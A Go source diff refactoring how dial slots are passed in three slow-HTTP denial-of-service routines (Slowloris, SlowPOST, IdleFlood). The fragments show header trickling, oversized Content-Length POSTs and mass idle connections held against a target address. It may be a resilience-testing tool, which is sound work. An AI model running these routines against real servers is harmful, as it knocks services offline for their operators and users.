@@ -39,8 +39,8 @@ func (s Slowloris) Run(ctx context.Context) []Conn {
 	// Header lines forever, each valid and none ending the head.
 	trickle := []byte("X-Slowloris: 1\r\n")
 	slots := newDialSlots(64)
-	return many(s.Conns, func(int) Conn {
-		return hold(ctx, slots, s.Addr, first, trickle, interval, s.Max)
+	return many(s.Conns, slots, func(dialed func()) Conn {
+		return hold(ctx, dialed, s.Addr, first, trickle, interval, s.Max)
 	})
 }
 
@@ -76,8 +76,8 @@ func (s SlowPOST) Run(ctx context.Context) []Conn {
 	req := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n%s",
 		s.Path, host, cl, strings.Repeat("x", send))
 	slots := newDialSlots(64)
-	return many(s.Conns, func(int) Conn {
-		return hold(ctx, slots, s.Addr, []byte(req), nil, 0, s.Max)
+	return many(s.Conns, slots, func(dialed func()) Conn {
+		return hold(ctx, dialed, s.Addr, []byte(req), nil, 0, s.Max)
 	})
 }
 
@@ -93,7 +93,7 @@ type IdleFlood struct {
 // Run holds the connections and returns each one's record.
 func (f IdleFlood) Run(ctx context.Context) []Conn {
 	slots := newDialSlots(f.Parallel)
-	return many(f.Conns, func(int) Conn {
-		return hold(ctx, slots, f.Addr, nil, nil, 0, f.Max)
+	return many(f.Conns, slots, func(dialed func()) Conn {
+		return hold(ctx, dialed, f.Addr, nil, nil, 0, f.Max)
 	})
 }
